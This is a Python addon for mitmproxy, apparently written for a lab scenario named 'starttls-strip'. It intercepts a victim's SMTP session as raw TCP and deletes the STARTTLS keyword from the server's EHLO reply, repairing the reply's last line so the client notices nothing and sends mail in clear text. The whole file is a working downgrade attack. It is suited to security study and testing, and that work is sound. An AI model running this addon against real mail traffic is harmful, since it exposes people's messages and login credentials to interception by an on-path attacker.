"""mitmproxy addon (mitmdump -s): STARTTLS stripping on a raw-TCP SMTP relay.

Lab scenario starttls-strip. mitmdump in transparent mode relays the victim's SMTP
connection as raw TCP (a server-first protocol: mitmproxy's next_layer picks its TCP
layer once the server's greeting arrives) and this addon deletes the STARTTLS keyword
from the server's EHLO answer, as STRIPTLS tools and a "no allow-tls" middlebox do: the
client sees no STARTTLS and carries on in clear. Lines of the reply other than STARTTLS
are left as they are; a STARTTLS on the reply's last line ("250 STARTTLS") turns the
line before it into the last one.
"""
import re

from mitmproxy import ctx, tcp

_LINE = re.compile(rb"^250([- ])STARTTLS[ \t]*\r?\n", re.IGNORECASE | re.MULTILINE)


def _strip(data):
    m = _LINE.search(data)
    if not m:
        return data, False
    out = data[:m.start()] + data[m.end():]
    if m.group(1) == b" ":
        # the last line went: the line before it ends the reply now
        k = out.rfind(b"250-", 0, m.start())
        if k >= 0:
            out = out[:k] + b"250 " + out[k + 4:]
    return out, True


def tcp_message(flow: tcp.TCPFlow):
    msg = flow.messages[-1]
    if msg.from_client:
        return
    new, hit = _strip(msg.content)
    if hit:
        msg.content = new
        ctx.log.info("onpath lab: STARTTLS stripped from %s:%d's EHLO reply"
                     % flow.server_conn.address)
